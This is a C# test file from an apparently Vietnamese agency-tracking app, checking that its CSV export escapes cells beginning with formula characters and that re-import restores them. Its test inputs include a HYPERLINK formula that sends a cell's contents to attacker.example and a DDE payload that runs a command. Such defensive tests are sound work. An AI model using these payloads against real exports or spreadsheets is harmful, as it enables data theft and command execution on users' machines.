using System.Globalization;
using System.Net;
using System.Text;
using CsvHelper;
using FluentAssertions;
using Microsoft.EntityFrameworkCore;
using ParTrack.Tests.Infrastructure;

namespace ParTrack.Tests.Inputs;

/// <summary>Finding 17: a spreadsheet opening a CSV export must not run a cell as a formula.</summary>
public sealed class CsvInjectionTests(AppFixture fx) : IClassFixture<AppFixture>
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"Bấm vào đây\")")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("+84 Sở mới")]
    [InlineData("-2+3 Sở")]
    [InlineData("\tSở có tab")]
    public async Task AgencyExport_CellStartingWithAFormulaCharacter_IsNeutralised_AndImportsBackUnchanged(string name)
    {
        var app = fx.App();
        // Stored past the input normaliser, as an agency imported by an older version could be (a tab would survive it anyway).
        var agency = await app.AddAgencyAsync(TestData.Agency());
        await app.Db(db => db.Agencies.Where(a => a.Id == agency.Id).ExecuteUpdateAsync(s => s.SetProperty(a => a.Name, name)));
        var client = await app.As("coordinator");

        var response = await client.GetAsync("/Agencies/Export");
        response.StatusCode.Should().Be(HttpStatusCode.OK);
        var exported = await response.Content.ReadAsByteArrayAsync();
        using var csv = new CsvReader(new StreamReader(new MemoryStream(exported), Encoding.UTF8), CultureInfo.InvariantCulture);
        var cells = new List<string>();
        while (await csv.ReadAsync()) cells.AddRange(csv.Parser.Record!);

        cells.Should().NotContain(c => c.Length > 0 && "=+-@\t\r".Contains(c[0]), "no cell may start like a formula");
        cells.Should().Contain("'" + name);

        // The escape is undone on import: exporting and importing again changes nothing.
        var token = await client.TokenAsync("/Agencies/Csv");
        var content = new MultipartFormDataContent { { new ByteArrayContent(exported), "Upload", "export.csv" }, { new StringContent(token!), HttpForms.TokenField } };
        (await client.PostAsync("/Agencies/Csv", content)).StatusCode.Should().Be(HttpStatusCode.Redirect);
        (await app.Db(db => db.Agencies.Where(a => a.Id == agency.Id).Select(a => a.Name).SingleAsync())).Should().Be(name.Trim());
        await app.Db(db => db.Agencies.Where(a => a.Id == agency.Id).ExecuteUpdateAsync(s => s.SetProperty(a => a.Name, TestData.Unique("Sở đã thử"))));
    }
}
